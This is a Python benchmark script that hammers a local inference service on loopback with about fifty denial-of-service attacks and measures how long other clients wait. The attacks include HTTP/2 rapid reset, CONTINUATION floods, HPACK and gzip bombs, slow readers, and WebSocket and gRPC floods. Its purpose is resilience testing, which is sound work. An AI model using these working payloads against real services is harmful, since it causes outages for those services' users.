#!/usr/bin/env python3
"""Measures how long others wait while one client attacks: a normal request, and the probe of liveness.

The attacker is a process of its own, with the lowest priority, and the one that measures has the highest that it may
take, so that the waits are the service's and not those of this program. The service runs already; --pid is its process.

    bench/attack.py 8080 --pid $(pgrep -f quarkus-run.jar) --photo photo.jpg http1 http2 resets pings
    bench/attack.py 8080 --attacked 8443 … half-tls tls
"""

import argparse
import contextlib
import gzip
import http.client
import itertools
import multiprocessing
import os
import selectors
import socket
import ssl
import statistics
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

POST = b"POST /predict HTTP/1.1\r\nHost: a\r\nContent-Type: image/jpeg\r\nContent-Length: 5000\r\n\r\n\xff\xd8abc"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKER, OTHER = "127.0.0.2", "127.0.0.3"  # of Linux's loopback, each with ports of its own
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
BATCH = 64  # frames or requests that are sent at once


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def head(**fields: str) -> bytes:
    """A block of headers, none of which is indexed or compressed."""
    return b"".join(b"\0" + literal(name.replace("_", "-").replace("p-", ":")) + literal(value)
                    for name, value in fields.items())


OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")
GET = head(p_method="GET", p_path="/q/health/live", p_scheme="http", p_authority="a")
POSTED = head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a", content_type="image/jpeg",
              content_length="5000")
LARGE = head(p_method="GET", p_path="/q/openapi", p_scheme="http", p_authority="a")
STREAMED = head(p_method="POST", p_path="/inference.GRPCInferenceService/ModelStreamInfer", p_scheme="http", p_authority="a",
                content_type="application/grpc", te="trailers")


def http2_posts(streams: int) -> bytes:
    """A connection that begins as many posts and sends five bytes of each."""
    posts = [frame(HEADERS, END_HEADERS, 2 * i + 1, POSTED) + frame(DATA, 0, 2 * i + 1, b"\xff\xd8abc")
             for i in range(streams)]
    return OPENING + b"".join(posts)


def streams(*frames: Callable[[int], bytes]) -> Iterator[bytes]:
    """HTTP/2 with one stream after the other, of the given frames each."""
    yield OPENING
    for first in itertools.count(1, 2 * BATCH):
        yield b"".join(make(first + 2 * i) for i in range(BATCH) for make in frames)


def rapid_resets() -> Iterator[bytes]:
    """Streams that are begun and cancelled at once: CVE-2023-44487."""
    return streams(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, GET),
                   lambda stream: frame(RESET, 0, stream, struct.pack(">I", 8)))


def made_to_reset() -> Iterator[bytes]:
    """Streams that the service has to reset, for a window that grows by nothing: CVE-2025-8671."""
    return streams(lambda stream: frame(HEADERS, END_HEADERS, stream, POSTED),
                   lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))


def unended_head() -> Iterator[bytes]:
    """One head that goes on and on: CVE-2024-24549 and the like."""
    yield OPENING + frame(HEADERS, 0, 1, GET)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, head(x_a="a" * 100) * 100))


def empty_continuations() -> Iterator[bytes]:
    yield OPENING + frame(HEADERS, 0, 1, GET)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"") * BATCH)


def hpack_bombs() -> Iterator[bytes]:
    """A header of 4,000 bytes in the table, which each stream then names in a byte, 4,000 times: CVE-2016-6581."""
    large = b"\x40" + literal("x-a") + b"\x7f" + bytes([0xa1, 0x1e]) + b"a" * 4000
    yield OPENING + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + large)
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + b"\xbe" * 4000)


def control_frames(kind: int, payload: bytes) -> Iterator[bytes]:
    yield OPENING
    yield from itertools.repeat(frame(kind, 0, 0, payload) * BATCH)


def on_one_stream(kind: int, payload: bytes) -> Iterator[bytes]:
    yield OPENING + frame(HEADERS, END_HEADERS, 1, POSTED)
    yield from itertools.repeat(frame(kind, 0, 1, payload) * BATCH)


def requests(make: Callable[[int], bytes]) -> Iterator[bytes]:
    """HTTP/1 requests, one after the other, without waiting for responses."""
    for first in itertools.count(os.getpid() * 1_000_000, BATCH):
        yield b"".join(make(first + i) for i in range(BATCH))


def get(path: str, *headers: str) -> bytes:
    return "\r\n".join([f"GET {path} HTTP/1.1", "Host: a", *headers, "", ""]).encode()


def post(path: str, kind: str, body: bytes, *headers: str) -> bytes:
    first = [f"POST {path} HTTP/1.1", "Host: a", f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    return "\r\n".join([*first, *headers, "", ""]).encode() + body


def gzip_bomb() -> bytes:
    return gzip.compress(bytes(64 << 20))


def many_parts() -> bytes:
    """A form of 100,000 parts."""
    return b"".join(b'--b\r\nContent-Disposition: form-data; name="p%d"\r\n\r\nx\r\n' % i for i in range(100_000)) + b"--b--\r\n"


def giant_part_head() -> bytes:
    return b'--b\r\nContent-Disposition: form-data; name="file"\r\nX-A: ' + b"a" * 4_000_000 + b"\r\n\r\nx\r\n--b--\r\n"


def endless(content: bytes) -> Iterator[bytes]:
    return itertools.repeat(content)


def chunked(path: str, kind: str, repeated: bytes) -> Iterator[bytes]:
    """A body in chunks that goes on and on."""
    yield "\r\n".join([f"POST {path} HTTP/1.1", "Host: a", f"Content-Type: {kind}", "Transfer-Encoding: chunked", "", ""]).encode()
    yield from itertools.repeat(repeated)


def websocket(kind: int, final: bool, payload: bytes, announced: int | None = None) -> bytes:
    """A frame, masked with zeros."""
    length = announced if announced is not None else len(payload)
    head = bytes([kind | (0x80 if final else 0)])
    head += bytes([0x80 | length]) if length < 126 else bytes([0xFE]) + struct.pack(">H", length) if length < 65536 else (
        bytes([0xFF]) + struct.pack(">Q", length))
    return head + bytes(4) + payload


def live(*frames: bytes, first: bytes = b"") -> Iterator[bytes]:
    """A WebSocket that sends these frames again and again; or the first one only, if there are no others."""
    yield get("/predict/live", *UPGRADE) + first
    if frames:
        yield from itertools.repeat(b"".join(frames))


def streams_of_messages(streams: int, message: bytes, repeated: bytes = b"") -> Iterator[bytes]:
    """Streams of gRPC that each begin with the same bytes, and go on with others for ever, if there are any."""
    begins = [frame(HEADERS, END_HEADERS, 2 * i + 1, STREAMED) + frame(DATA, 0, 2 * i + 1, message) for i in range(streams)]
    yield OPENING + b"".join(begins)
    if repeated:
        more = b"".join(frame(DATA, 0, 2 * i + 1, repeated) for i in range(streams))
        yield from itertools.repeat(more)


def dribbled() -> Iterator[bytes]:
    """Large responses that are allowed a byte at a time: CVE-2019-9511."""
    yield PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, LARGE) for i in range(100))
    for stream in itertools.cycle(range(1, 200, 2)):
        yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) * BATCH


def http2_unread(path: bytes) -> bytes:
    """A connection that asks for a hundred responses, and allows none of their bytes."""
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, path) for i in range(100))


def padded_data() -> Iterator[bytes]:
    """A body whose frames are padding, but for a byte."""
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(p_method="POST", p_path="/predict", p_scheme="http", p_authority="a",
                                                        content_type="image/jpeg"))
    yield from itertools.repeat(frame(DATA, PADDED, 1, b"\xff" + bytes(256)) * BATCH)


def png(side: int) -> bytes:
    """A black square, in few bytes."""
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    rows = zlib.compress(bytes((side + 1) * side), 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)) + chunk(b"IDAT", rows)
            + chunk(b"IEND", b""))


def many_files(count: int, content: bytes) -> bytes:
    """A form with files of the same content."""
    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
    return (part + content + b"\r\n") * count + b"--b--\r\n"


@dataclass(frozen=True)
class Attack:
    """What an attacker does: it opens connections, sends what each has to, and reads what comes, or does not."""

    connections: int
    content: Callable[[], Iterator[bytes]]
    reads: bool = True
    tls: bool = False


FORM = "multipart/form-data; boundary=b"
UPGRADE = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
RANGES = "Range: bytes=" + ",".join(["0-"] * 1000)
BINARY, WS_PING = 2, 9  # frames of a WebSocket
HELLO = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])  # the beginning of a ClientHello of 512 bytes

ATTACKS = {
    "none": Attack(0, lambda: iter(())),
    "http1": Attack(3000, lambda: iter((POST,))),
    "http2": Attack(40, lambda: iter((http2_posts(100),))),
    "http2-unread": Attack(40, lambda: iter((http2_unread(LARGE),)), reads=False),
    "http2-small-unread": Attack(40, lambda: iter((http2_unread(GET),)), reads=False),
    "expect": Attack(3000, lambda: iter((POST[:-5].replace(b"Host: a", b"Host: a\r\nExpect: 100-continue"),))),
    "half-tls": Attack(3000, lambda: iter((HELLO,))),
    "tls": Attack(50, lambda: iter(()), tls=True),
    "upgrades": Attack(20, lambda: requests(lambda i: get("/predict", *UPGRADE))),
    "resets": Attack(8, rapid_resets),
    "made-to-reset": Attack(8, made_to_reset),
    "continuations": Attack(8, unended_head),
    "empty-continuations": Attack(8, empty_continuations),
    "hpack": Attack(8, hpack_bombs),
    "pings": Attack(8, lambda: control_frames(PING, bytes(8))),
    "unread-pings": Attack(8, lambda: control_frames(PING, bytes(8)), reads=False),
    "settings": Attack(8, lambda: control_frames(SETTINGS, b"")),
    "unread-settings": Attack(8, lambda: control_frames(SETTINGS, struct.pack(">HI", 4, 65535) * 20), reads=False),
    "empty-data": Attack(8, lambda: on_one_stream(DATA, b"")),
    "priorities": Attack(8, lambda: on_one_stream(PRIORITY, struct.pack(">IB", 0, 1))),
    "windows": Attack(8, lambda: control_frames(WINDOW_UPDATE, struct.pack(">I", 1))),
    "slow-readers": Attack(1000, lambda: iter((get("/q/openapi") * 20,)), reads=False),
    "ranges": Attack(8, lambda: requests(lambda i: get("/q/openapi", RANGES))),
    "long-paths": Attack(8, lambda: requests(lambda i: get("/" + "a/" * 1900))),
    "long-queries": Attack(8, lambda: requests(lambda i: get("/models?" + "a=b&" * 950))),
    "models": Attack(20, lambda: requests(lambda i: get(f"/v2/models/{i:x}"))),
    "predict-models": Attack(20, lambda: requests(lambda i: post(f"/predict?model=m{i:x}", "image/jpeg", b"\xff\xd8"))),
    "wrong-keys": Attack(20, lambda: requests(lambda i: get("/models", f"X-API-Key: {i:x}"))),
    "gzip": Attack(20, lambda body=gzip_bomb(): endless(post("/predict", "image/jpeg", body, "Content-Encoding: gzip"))),
    "nested": Attack(20, lambda body=gzip.compress(gzip.compress(gzip_bomb())): endless(
        post("/predict", "application/json", body, "Content-Encoding: gzip, gzip, gzip"))),
    "parts": Attack(20, lambda body=many_parts(): endless(post("/predict", FORM, body))),
    "chunks": Attack(20, lambda: chunked("/predict", "image/jpeg", b"1\r\na\r\n" * BATCH)),
    "chunk-extensions": Attack(20, lambda: chunked("/predict", "image/jpeg", b"1;" + b"a=b;" * 900 + b"\r\na\r\n")),
    "trailers": Attack(20, lambda: itertools.chain(
        (next(chunked("/predict", "image/jpeg", b"")) + b"1\r\na\r\n0\r\n",), itertools.repeat(b"X-A: " + b"a" * 100 + b"\r\n"))),
    "live-halves": Attack(16, lambda: live(first=websocket(BINARY, True, b"a" * 2_000_000, 2_000_001)), reads=False),
    "live-parts": Attack(16, lambda: live(websocket(0, False, b"") * BATCH, first=websocket(BINARY, False, b"a" * 1_000_000))),
    "live-pings": Attack(16, lambda: live(websocket(WS_PING, True, b"a" * 125) * BATCH)),
    "live-unread": Attack(16, lambda: live(websocket(WS_PING, True, b"a" * 125) * BATCH), reads=False),
    "live-pngs": Attack(16, lambda image=png(12_000): live(websocket(BINARY, True, image))),
    "grpc-stalled": Attack(8, lambda: streams_of_messages(100, struct.pack(">BI", 0, 5_000_000))),
    "grpc-empty": Attack(8, lambda: streams_of_messages(100, bytes(5), bytes(5) * 100)),
    "grpc-bombs": Attack(8, lambda: streams_of_messages(100, struct.pack(">BI", 1, 10) + gzip.compress(b"")[:10])),
    "dribble": Attack(8, dribbled),
    "padding": Attack(8, padded_data),
    "pngs": Attack(40, lambda image=png(9_000): endless(post("/predict", "image/png", image))),
    "explain": Attack(40, lambda image=png(9_000): endless(post("/explain", "image/png", image))),
    "explain-masks": Attack(40, lambda image=png(4_000): endless(post("/explain?method=occlusion", "image/png", image))),
    "batches": Attack(20, lambda image=png(2_000): endless(post("/predict/batch", FORM, many_files(30, image)))),
    "batch-of-nothing": Attack(20, lambda: endless(post("/predict/batch", FORM, many_files(20_000, b"")))),
    "results": Attack(20, lambda: requests(lambda i: get(f"/results/{i:x}"))),
    "later": Attack(20, lambda image=png(2_000): endless(post("/predict", "image/png", image, "Prefer: respond-async"))),
    "part-heads": Attack(20, lambda body=giant_part_head(): endless(post("/predict", FORM, body))),
}


class Attacker:
    """One connection of an attack."""

    def __init__(self, opened: socket.socket, content: Iterator[bytes]):
        self.opened = opened
        self.content = content
        self.unsent = b""

    def send(self) -> bool:
        """Sends what the socket takes; returns whether there is more."""
        while True:
            if not self.unsent:
                self.unsent = next(self.content, b"")
                if not self.unsent:
                    return False
            sent = self.opened.send(self.unsent)
            self.unsent = self.unsent[sent:]
            if self.unsent:
                return True


def connect(port: int, kind: Attack) -> socket.socket:
    opened = socket.create_connection(("127.0.0.1", port), 1, (ATTACKER, 0))
    if kind.tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.wrap_socket(opened).close()
        raise ConnectionError("closed after its handshake")
    opened.setblocking(False)
    return opened


def attack(port: int, kind: Attack, ends: float) -> None:
    """Opens the attack's connections, sends what belongs to each, and reads what comes; opens closed ones again."""
    os.nice(19)
    waiting = selectors.DefaultSelector()
    events_of_all = selectors.EVENT_READ if kind.reads else 0
    unread = []  # keeps them open
    missing = kind.connections
    while time.monotonic() < ends:
        for _ in range(min(missing, 50)):
            with contextlib.suppress(OSError):
                attacker = Attacker(connect(port, kind), kind.content())
                waiting.register(attacker.opened, selectors.EVENT_WRITE | events_of_all, attacker)
                missing -= 1
        for key, events in waiting.select(0 if missing else 0.05):
            attacker = key.data
            try:
                if events & selectors.EVENT_WRITE and not attacker.send():
                    if not kind.reads:
                        unread.append(waiting.unregister(key.fileobj).fileobj)
                        continue
                    waiting.modify(key.fileobj, selectors.EVENT_READ, attacker)
                if not events & selectors.EVENT_READ or key.fileobj.recv(1 << 16):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            waiting.unregister(key.fileobj)
            key.fileobj.close()
            missing += 1


def ask(port: int, source: tuple, method: str, path: str, body: bytes | None) -> str:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20, source_address=source)
    try:
        connection.request(method, path, body, {"Content-Type": "image/jpeg"} if body else {})
        answer = connection.getresponse()
        answer.read()
        return str(answer.status)
    except (OSError, http.client.HTTPException) as e:
        return type(e).__name__
    finally:
        connection.close()


def measure(port: int, source: tuple, request: tuple, ends: float, results) -> None:
    """Asks again and again, each time over a new connection; puts milliseconds and outcomes into the queue."""
    with contextlib.suppress(PermissionError):
        os.nice(-20)
    waits, outcomes = [], Counter()
    while time.monotonic() < ends:
        started = time.monotonic()
        outcomes[ask(port, source, *request)] += 1
        waits.append((time.monotonic() - started) * 1000)
        time.sleep(0.02)
    results.put((waits, outcomes))


def rss(pid: int) -> float:
    """Megabytes of a process that are in memory."""
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 1e6


def summary(waits: list[float], outcomes: Counter) -> str:
    others = {outcome: n for outcome, n in outcomes.items() if outcome != "200"}
    ordered = sorted(waits)
    return (f"{len(waits):4} p50 {statistics.median(waits):.0f} p95 {ordered[int(len(ordered) * 0.95)]:.0f}"
            f" max {ordered[-1]:.0f}" + (f" {others}" if others else ""))


def run(port: int, attacked: int, pid: int, source: tuple, photo: bytes, kind: str, seconds: float) -> None:
    """One attack, with both measurements beside it; prints a line of them."""
    ends = time.monotonic() + seconds
    asked = [("POST", "/predict", photo), ("GET", "/q/health/live", None)]
    queues = [multiprocessing.Queue() for _ in asked]
    processes = [multiprocessing.Process(target=measure, args=(port, source, request, ends, queue))
                 for request, queue in zip(asked, queues)]
    before = most = rss(pid)
    for process in processes:
        process.start()
    time.sleep(0.3)
    attacker = multiprocessing.Process(target=attack, args=(attacked, ATTACKS[kind], ends))
    attacker.start()
    while time.monotonic() < ends:
        most = max(most, rss(pid))
        time.sleep(0.05)
    normal, live = (summary(*queue.get()) for queue in queues)
    for process in [*processes, attacker]:
        process.join()
    print(f"{kind:19} | normal {normal} ms | live {live} ms | RSS {before:.0f} to {most:.0f} MB", flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", type=int)
    parser.add_argument("attacks", nargs="+", choices=ATTACKS)
    parser.add_argument("--pid", type=int, required=True, help="the service's process")
    parser.add_argument("--photo", type=Path, required=True, help="the body of normal requests")
    parser.add_argument("--attacked", type=int, help="the port that is attacked, if it is another")
    parser.add_argument("--same-address", action="store_true", help="measure from the attacker's address")
    parser.add_argument("--seconds", type=float, default=5, help="of each attack")
    options = parser.parse_args()
    for kind in options.attacks:
        source = (ATTACKER if options.same_address else OTHER, 0)
        run(options.port, options.attacked or options.port, options.pid, source, options.photo.read_bytes(), kind, options.seconds)
        time.sleep(1)


if __name__ == "__main__":
    main()
